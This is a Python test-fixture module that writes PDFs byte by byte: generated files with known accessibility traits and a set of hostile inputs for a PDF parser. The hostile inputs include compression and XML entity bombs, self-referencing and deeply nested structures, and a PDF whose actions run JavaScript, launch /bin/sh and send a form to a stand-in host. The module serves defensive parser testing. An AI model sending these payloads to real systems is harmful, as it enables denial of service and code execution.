"""PDFs for tests, written byte by byte: with known signs (`made`), and hostile ones (`HOSTILE`). Nothing here uses the parser
that is tested."""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

Objects = dict[int, bytes]


@dataclass(slots=True)
class Made:
    """A PDF and what is true of it."""

    name: str
    raw: bytes
    signs: dict[str, bool] = field(default_factory=dict)


def stream(data: bytes, extra: bytes = b"", *, packed: bool = False) -> bytes:
    if packed:
        data, extra = zlib.compress(data), extra + b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def file_of(objects: Objects, trailer: bytes = b"/Root 1 0 R", *, in_streams: bool = False) -> bytes:
    """The bytes of a file: with a table of its objects, or (PDF 1.5) with its plain objects packed into a stream."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places: dict[int, tuple[int, int, int]] = {0: (0, 0, 65535)}
    size = max(objects) + 1
    if in_streams:
        inside = {n: body for n, body in objects.items() if b"stream\n" not in body}
        head, texts = b"", b""
        for number, body in inside.items():
            head += b"%d %d " % (number, len(texts))
            texts += body + b"\n"
        packed = stream(head + texts, b"/Type /ObjStm /N %d /First %d" % (len(inside), len(head)), packed=True)
        places |= {number: (2, size, index) for index, number in enumerate(inside)}
        objects = {**{n: body for n, body in objects.items() if n not in inside}, size: packed}
        size += 1
    for number, body in objects.items():
        places[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    if in_streams:
        places[size] = (1, start, 0)
        rows = b"".join(
            bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big")
            for kind, a, b in (places.get(n, (0, 0, 65535)) for n in range(size + 1))
        )
        said = b"/Type /XRef /W [1 4 2] /Size %d %s" % (size + 1, trailer)
        out += b"%d 0 obj\n%s\nendobj\n" % (size, stream(rows, said, packed=True))
    else:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            kind, at, _ = places.get(number, (0, 0, 0))
            out += b"%010d %05d %s \n" % (at, 0 if kind else 65535, b"n" if kind else b"f")
        out += b"trailer\n<< /Size %d %s >>\n" % (size, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


PICTURE = b"q 612 0 0 792 0 0 cm /Im0 Do Q\n"
_TEXTS = (
    b"BT /F1 12 Tf 72 700 Td (Attendance plan for every school) Tj ET\n",
    b"BT /F1 12 Tf 72 700 Td [(Atten) -20 (dance plan) 5 ( for schools)] TJ ET\n",
    b"BT /F1 12 Tf 72 700 Td 14 TL (Attendance plan for schools) ' ET\n",
    b"BT /F1 12 Tf 72 700 Td <417474656E64616E636520706C616E> Tj ET\n",
    # The layer of letters that text recognition puts behind a scanned page.
    PICTURE + b"BT 3 Tr /F1 12 Tf 72 700 Td (Attendance plan for schools) Tj ET\n",
    # In many small pieces, as layout programs write.
    b"BT /F1 12 Tf 72 700 Td " + b"".join(b"(%c) Tj " % c for c in b"Attendance plan for schools") + b"ET\n",
)
_FORM = "form"
_NO_TEXTS = (
    PICTURE,
    b"0 0 612 792 re f\n",
    b"BT /F1 12 Tf 72 700 Td (   ) Tj ET\n" + PICTURE,
    b"",
    # A stamped number on a scanned page.
    PICTURE + b"BT /F1 8 Tf 300 20 Td (12) Tj ET\n",
    b"% BT (Only a remark, not a text that is shown) Tj ET\n" + PICTURE,
)
_TITLES = (
    b"(Attendance plan)",
    b"<FEFF0050006C0061006E0020006400650020006100730069007300740065006E0063006900E1>",
    b"(\\376\\377\\000P\\000l\\000a\\000n)",
    b"(Plan \\(2026\\))",
)
_NO_TITLES = (None, b"()", b"(   )", b"<FEFF>", b"null")
_XMP = (
    '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:format>application/pdf</dc:format>{title}</rdf:Description></rdf:RDF>'
    '</x:xmpmeta><?xpacket end="w"?>'
)
_XMP_TITLE = '<dc:title>\n<rdf:Alt><rdf:li xml:lang="x-default">{}</rdf:li></rdf:Alt>\n</dc:title>'
_LANGUAGES = (b"(en-US)", b"(es)", b"<FEFF0065006E>", b"9 0 R")
_NO_LANGUAGES = (None, b"()", b"null")
_TAGS = (
    (b"<< /Marked true >>", b"<< /Type /StructTreeRoot /K 8 0 R >>"),
    (b"<< /Marked true /Suspects false >>", b"<< /Type /StructTreeRoot /K [8 0 R] >>"),
    (b"7 0 R", b"<< /Type /StructTreeRoot /K [8 0 R] >>"),
)
_NO_TAGS = (
    (None, None),
    (b"<< /Marked false >>", b"<< /Type /StructTreeRoot /K [8 0 R] >>"),
    (b"<< /Marked true >>", None),
    (b"<< /Marked true >>", b"<< /Type /StructTreeRoot >>"),
    (b"<< /Marked true >>", b"<< /Type /StructTreeRoot /K [] >>"),
    (None, b"<< /Type /StructTreeRoot /K [8 0 R] >>"),
)


def made(number: int) -> Made:
    """The PDF of a number: always the same. Its signs, and how the file writes them, are drawn by lot."""
    lot = random.Random(f"pdf {number}")
    text, tagged, title, language = (lot.random() < 0.5 for _ in range(4))
    objects: Objects = {2: b"", 7: b"<< /Marked true >>", 8: b"<< /Type /StructElem /S /Document /P 6 0 R >>"}
    objects |= {5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", 9: b"(en)"}
    pixels = stream(
        b"\0" * 16, b"/Type /XObject /Subtype /Image /Width 4 /Height 4 /ColorSpace /DeviceGray /BitsPerComponent 8"
    )
    objects[10] = pixels
    packed = lot.random() < 0.7
    catalog = b"/Type /Catalog /Pages 2 0 R"
    marks, tree = lot.choice(_TAGS if tagged else _NO_TAGS)
    if tree:
        objects[6] = tree
        catalog += b" /StructTreeRoot 6 0 R"
    catalog += b" /MarkInfo " + marks if marks else b""
    spoken = lot.choice(_LANGUAGES if language else _NO_LANGUAGES)
    catalog += b" /Lang " + spoken if spoken else b""
    in_xmp = title and lot.random() < 0.4
    if in_xmp or lot.random() < 0.3:
        words = _XMP_TITLE.format("Attendance &amp; plan" if in_xmp else "  ") if in_xmp or lot.random() < 0.5 else ""
        coding = lot.choice(("utf-8", "utf-16"))
        objects[4] = stream(_XMP.format(title=words).encode(coding), b"/Type /Metadata /Subtype /XML")
        catalog += b" /Metadata 4 0 R"
    written = lot.choice(_NO_TITLES if in_xmp or not title else _TITLES)
    trailer = b"/Root 1 0 R"
    if written or lot.random() < 0.5:
        objects[3] = b"<< /Producer (Our press) %s >>" % (b"/Title " + written if written else b"")
        trailer += b" /Info 3 0 R"
    objects[1] = b"<< %s >>" % catalog
    _add_pages(objects, lot, text=text, packed=packed)
    raw = file_of(objects, trailer, in_streams=lot.random() < 0.4)
    if lot.random() < 0.15:
        # What a mail program or a server puts before and behind a file.
        raw += b"\n" * lot.randrange(1, 40)
    return Made(f"pdf {number}", raw, {"text": text, "tagged": tagged, "title": title, "language": language})


def _add_pages(objects: Objects, lot: random.Random, *, text: bool, packed: bool) -> None:
    """Pages in a tree of one or two levels; text, if there is any, is on one of them or on all."""
    count = lot.choice((1, 1, 2, 3, 7, 40))
    first = 20
    of_text = range(count) if count > 30 or lot.random() < 0.5 else (lot.randrange(count),)
    resources = b"/Resources << /Font << /F1 5 0 R >> /XObject << /Im0 10 0 R /Fm0 11 0 R >> >>"
    objects[11] = stream(lot.choice(_TEXTS[:4]), b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]", packed=packed)
    above = lot.random() < 0.4
    kids = []
    for page in range(count):
        shown: bytes | str = lot.choice((*_TEXTS, _FORM)) if text and page in of_text else lot.choice(_NO_TEXTS)
        contents = b"q /Fm0 Do Q\n" if isinstance(shown, str) else shown
        number = first + 3 * page
        objects[number + 1] = stream(contents, packed=packed)
        where = b"%d 0 R" % (number + 1)
        if lot.random() < 0.3:
            objects[number + 2] = stream(b"q Q\n", packed=packed)
            where = b"[%d 0 R %d 0 R]" % (number + 2, number + 1)
        objects[number] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %s %s >>" % (
            where,
            b"" if above else resources,
        )
        kids.append(b"%d 0 R" % number)
    inherited = resources if above else b""
    if count > 2 and lot.random() < 0.5:
        objects[12] = b"<< /Type /Pages /Parent 2 0 R /Count %d /Kids [%s] >>" % (count, b" ".join(kids))
        kids = [b"12 0 R"]
    objects[2] = b"<< /Type /Pages /Count %d /Kids [%s] %s >>" % (count, b" ".join(kids), inherited)


def plain(
    text: bool = True, tagged: bool = True, title: bool = True, language: bool = True, contents: bytes = b""
) -> bytes:
    """A small PDF with the signs that are asked for."""
    catalog = b"/Type /Catalog /Pages 2 0 R"
    if tagged:
        catalog += b" /MarkInfo << /Marked true >> /StructTreeRoot << /Type /StructTreeRoot /K [<< /S /P >>] >>"
    catalog += b" /Lang (en-US)" if language else b""
    objects = {
        1: b"<< %s >>" % catalog,
        2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>",
        4: stream(contents or (_TEXTS[0] if text else PICTURE)),
        5: b"<< /Title (Attendance plan) >>" if title else b"<< >>",
    }
    return file_of(objects, b"/Root 1 0 R /Info 5 0 R")


# What a stranger can send. Each is to be harmless and quick; what must be seen of it, if anything, is said by the tests.


def _bomb() -> bytes:
    """A page of 400 MB that comes in 400 kB."""
    squeeze = zlib.compressobj(9)
    data = b"".join(squeeze.compress(b" " * 1_000_000) for _ in range(400)) + squeeze.flush()
    objects = _with_page(b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(data), data))
    return file_of(objects)


def _bomb_in_a_bomb() -> bytes:
    inner = zlib.compress(zlib.compress(zlib.compress(b"0" * 60_000_000, 9), 9), 9)
    names = b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"
    return file_of(_with_page(b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(inner), names, inner)))


def _with_page(contents: bytes, **more: bytes) -> Objects:
    return {
        1: more.get("catalog", b"<< /Type /Catalog /Pages 2 0 R >>"),
        2: more.get("pages", b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"),
        3: more.get(
            "page", b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /XObject << /F 4 0 R >> >> >>"
        ),
        4: contents,
    }


def _loop_of_pages() -> bytes:
    return file_of(_with_page(stream(b""), pages=b"<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] /Parent 2 0 R >>"))


def _page_above_itself() -> bytes:
    return file_of(_with_page(stream(b"/F Do"), page=b"<< /Type /Page /Parent 3 0 R /Contents 4 0 R >>"))


def _form_in_itself() -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /F 4 0 R >> >>"
    return file_of(_with_page(stream(b"/F Do /F Do /F Do", form)))


def _forms_that_multiply() -> bytes:
    """Each form draws the next ten times, twenty deep."""
    objects = _with_page(stream(b"/F Do " * 10, b"/Subtype /Form /Resources << /XObject << /F 10 0 R >> >>"))
    for number in range(10, 30):
        follows = b"/Subtype /Form /Resources << /XObject << /F %d 0 R >> >>" % (number + 1)
        objects[number] = stream(b"/F Do " * 10, follows)
    return file_of(objects)


def _deep() -> bytes:
    return file_of(_with_page(stream(b""), catalog=b"<< /Type /Catalog /Pages 2 0 R /Lang %s >>" % (b"[" * 200_000)))


def _deep_contents() -> bytes:
    return file_of(_with_page(stream(b"[" * 300_000 + b" TJ")))


def _huge_numbers() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Lang %s >>" % (b"9" * 400_000)
    pages = b"<< /Type /Pages /Count 99999999999999999999 /Kids [3 0 R] >>"
    return file_of(_with_page(stream(b"9" * 400_000 + b" Tc"), catalog=catalog, pages=pages))


def _huge_table() -> bytes:
    return plain().replace(b"xref\n0 6\n", b"xref\n0 999999999\n")


def _huge_stream_table() -> bytes:
    rows = stream(b"\0" * 40, b"/Type /XRef /W [1 4 2] /Index [0 2000000000] /Size 2000000000 /Root 1 0 R", packed=True)
    body = b"%PDF-1.7\n"
    return body + b"1 0 obj\n" + rows + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(body)


def _table_that_leads_to_itself() -> bytes:
    raw = plain()
    at = raw.rindex(b"xref\n", 0, raw.rindex(b"startxref"))
    return raw.replace(b"trailer\n<<", b"trailer\n<< /Prev %d" % at)


def _length_that_asks_itself() -> bytes:
    return file_of(_with_page(b"<< /Length 4 0 R >>\nstream\n(x) Tj\nendstream"))


def _reference_to_itself() -> bytes:
    return file_of({**_with_page(stream(b"")), 2: b"2 0 R"})


def _wide_tree() -> bytes:
    objects = _with_page(stream(b""), pages=b"<< /Type /Pages /Count 1 /Kids [%s] >>" % (b"3 0 R " * 900_000))
    return file_of(objects)


def _deep_tree() -> bytes:
    objects = _with_page(stream(b""), pages=b"<< /Type /Pages /Kids [10 0 R] >>")
    for number in range(10, 30_010):
        objects[number] = b"<< /Type /Pages /Kids [%d 0 R] >>" % (number + 1)
    return file_of(objects)


def _locked() -> bytes:
    return plain().replace(
        b"/Root 1 0 R",
        b"/Root 1 0 R /ID [<00><00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >>"
        % (b"11" * 32, b"22" * 32),
    )


def _locked_by_an_unknown_lock() -> bytes:
    return plain().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Strange /V 99 /R 99 >>")


def _xml_bomb() -> bytes:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 20))
    text = f'<!DOCTYPE x [<!ENTITY a0 "lol">{entities}]><x><dc:title>{"<b" * 9000}&a19;</x>'
    objects = _with_page(stream(b""), catalog=b"<< /Type /Catalog /Pages 2 0 R /Metadata 5 0 R >>")
    return file_of({**objects, 5: stream(text.encode(), b"/Type /Metadata /Subtype /XML")})


def _endless_operators() -> bytes:
    return file_of(_with_page(stream(b"0 0 m 1 1 l S\n" * 500_000)))


def _programs() -> bytes:
    """A script, a program to start, a form to send, and files to fetch: none of it may happen."""
    catalog = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> /AA << /WC << /S /Launch /F "
        b"(/bin/sh) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.submitForm('http://a.example')) "
        b">>] >> >> >>"
    )
    outside = b"<< /Length 0 /F (http://a.example/secret) /FFilter /FlateDecode >>\nstream\n\nendstream"
    return file_of(_with_page(outside, catalog=catalog))


def _noise() -> bytes:
    return b"%PDF-1.7\n1 0 obj\n" + random.Random("noise").randbytes(2_000_000)


HOSTILE: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "not a PDF": lambda: b"<html><body>404 obj</body></html>",
    "a mark and nothing else": lambda: b"%PDF-1.7\n",
    "a mark and noise": _noise,
    "cut in the middle": lambda: plain()[: len(plain()) // 2],
    "without its end": lambda: plain()[:-60],
    "too large": lambda: plain() + b" " * (9 * 1024 * 1024),
    "bomb": _bomb,
    "bomb in a bomb": _bomb_in_a_bomb,
    "loop of pages": _loop_of_pages,
    "page above itself": _page_above_itself,
    "form in itself": _form_in_itself,
    "forms that multiply": _forms_that_multiply,
    "deep nesting": _deep,
    "deep nesting in a page": _deep_contents,
    "huge numbers": _huge_numbers,
    "huge table": _huge_table,
    "huge table in a stream": _huge_stream_table,
    "table that leads to itself": _table_that_leads_to_itself,
    "length that asks itself": _length_that_asks_itself,
    "reference to itself": _reference_to_itself,
    "wide tree": _wide_tree,
    "deep tree": _deep_tree,
    "locked": _locked,
    "locked by an unknown lock": _locked_by_an_unknown_lock,
    "XML bomb": _xml_bomb,
    "endless operators": _endless_operators,
    "programs": _programs,
}


def all_made(count: int) -> Iterator[Made]:
    yield from map(made, range(count))
